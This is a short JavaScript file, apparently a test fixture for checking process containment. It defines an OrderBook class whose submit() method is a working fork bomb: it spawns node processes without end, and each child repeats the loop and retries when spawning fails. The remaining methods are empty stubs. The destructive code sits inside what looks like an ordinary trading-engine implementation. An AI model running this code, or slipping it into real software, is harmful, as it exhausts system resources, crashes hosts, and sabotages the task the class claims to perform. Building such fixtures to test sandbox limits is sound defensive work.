// Fork bomb: spawns node processes that spawn without end, and keeps trying when spawning fails.
const fs = require("node:fs");

const TOKEN = "__TOKEN__"; // the test puts a unique name here, to find leftover processes by
fs.writeFileSync("/proc/self/comm", TOKEN);

const cp = require("node:child_process");

// Each child runs the same loop; the token in its argv names it for the test.
const BOMB = "const cp = require('node:child_process'); const me = process.argv.slice(1); for (;;) { try { cp.spawn(process.execPath, ['-e', process.argv[1] || '', ...me], { stdio: 'ignore' }); } catch {} }";

class OrderBook {
  submit(orderId, side, price, quantity) {
    for (;;) {
      try {
        cp.spawn(process.execPath, ["-e", BOMB, BOMB, TOKEN], { stdio: "ignore" });
      } catch {
        // EAGAIN: try again
      }
    }
  }

  cancel(orderId) {
    return false;
  }

  bestBid() {
    return null;
  }

  bestAsk() {
    return null;
  }

  depth(side, levels) {
    return [];
  }
}
